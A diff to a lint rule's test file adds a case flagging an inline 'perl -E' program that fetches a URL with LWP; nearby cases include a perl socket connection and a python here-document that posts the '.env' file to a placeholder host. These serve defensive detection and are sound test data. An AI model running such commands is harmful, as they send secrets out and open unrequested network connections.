@@ -72,6 +72,12 @@ ruleTester(rule, {
       code: 'perl -MIO::Socket::INET -e \'IO::Socket::INET->new("x:80")\'',
       errors: [{ messageId: 'inline', line: 1, column: 1 }],
     },
+    // perl -E (features on) gives a program as -e does.
+    {
+      name: 'perl -E with LWP',
+      code: "perl -E 'use LWP::Simple; say get(q(https://x.example))'",
+      errors: [{ messageId: 'inline', line: 1, column: 1 }],
+    },
     {
       name: 'a python here-document with requests',
       code: "python3 - <<'PY'\nimport requests\nrequests.post('https://x', data=open('.env').read())\nPY",
